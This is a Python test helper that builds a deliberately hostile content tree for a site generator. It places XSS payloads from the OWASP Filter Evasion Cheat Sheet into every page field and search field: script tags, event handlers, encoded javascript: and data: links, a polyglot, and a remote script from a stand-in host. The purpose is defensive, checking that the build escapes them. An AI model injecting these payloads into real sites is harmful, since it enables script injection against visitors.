"""A content tree that tries every way an author could smuggle script into the site.

Payloads come from the OWASP XSS Filter Evasion Cheat Sheet. Each is placed in every channel that
reaches a page or the search index: Markdown text and headings, table cells, link and image URLs,
the page title, aliases, similar-code reasons, source titles and source URLs.
"""

from __future__ import annotations

from pathlib import Path

from codebook.scaffold import front_matter_for, render_page
from codebook.schema import REQUIRED_SECTIONS

from .helpers import REFERENCE, make_content, valid_trio

# OWASP XSS Filter Evasion Cheat Sheet (names follow its headings).
XSS = {
    "basic-script": "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "inline-script": "<script>alert('XSS')</script>",
    "img-onerror": '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "case-insensitive-javascript": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "decimal-html-entities": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "embedded-tab": "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "svg-onload": "<svg/onload=alert('XSS')>",
    "body-onload": "<BODY ONLOAD=alert('XSS')>",
    "iframe": "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "meta-refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "extraneous-open-brackets": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "attribute-breakout": "\"><script>alert('XSS')</script>",
    "script-close-in-data": "</script><script>alert('XSS')</script>",
    "polyglot": "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
}
# U+2028/U+2029 (JSON-in-script line separators) and bidi overrides are refused by the build itself,
# at their line (tests/test_checks.py, tests/test_bad_fields.py), so they cannot be payloads here.
# Markdown link and image syntax with dangerous URLs: markdown-it refuses each, so they stay text.
MARKDOWN_URLS = {
    "javascript-link": "[a](javascript:alert('XSS'))",
    "mixed-case-link": "[b](JaVaScRiPt:alert('XSS'))",
    "entity-encoded-link": "[c](&#106;avascript:alert('XSS'))",
    "angle-bracket-link": "[d](<javascript:alert('XSS')>)",
    "reference-link": "[e][evil]\n\n[evil]: javascript:alert('XSS')",
    "image": "![f](javascript:alert('XSS'))",
    "autolink": "<javascript:alert('XSS')>",
    "data-url": "[g](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[h](vbscript:msgbox('XSS'))",
}
# A valid web address (so the schema accepts it) that tries to break out of a quoted attribute.
HOSTILE_URL = "https://example.com/search?q='onmouseover='alert(1)'&x=1"
HOSTILE_PAGE = "J7500"


def squeezed(texts) -> set[str]:
    """Texts with runs of whitespace (U+2028 included) as one space: the build normalises names."""
    return {" ".join(text.split()) for text in texts}


def hostile_body(spec_title: str) -> str:
    """Every payload as prose, in a heading, a table cell and inline code; then the URL payloads."""
    lines = [f"Text about {spec_title.lower()}."]
    for name, payload in XSS.items():
        flat = payload.replace("\n", " ")
        lines += ["", f"### {name} {flat}", "", flat, "", f"| {name} |", "|---|", f"| {flat} |"]
    lines += ["", *(f"{text}\n" for text in MARKDOWN_URLS.values())]
    return "\n".join(lines)


def hostile_page() -> str:
    payloads = list(XSS.values())
    data = front_matter_for(
        HOSTILE_PAGE,
        REFERENCE,
        category="oral-immunosuppressives",
        similar=[("J7501", payloads[0]), ("J7517", payloads[1])],
        draft=False,
    )
    data["title"] = XSS["attribute-breakout"]
    data["aliases"] = [*data["aliases"], *payloads]
    data["sources"] = [
        *data["sources"],
        {"title": XSS["polyglot"], "url": HOSTILE_URL, "date": data["reviewed"]},
    ]
    return render_page(data, [(spec, hostile_body(spec.title)) for spec in REQUIRED_SECTIONS])


def hostile_content(folder: Path) -> Path:
    pages = valid_trio()
    pages[f"{HOSTILE_PAGE}.md"] = hostile_page()
    return make_content(folder, pages)
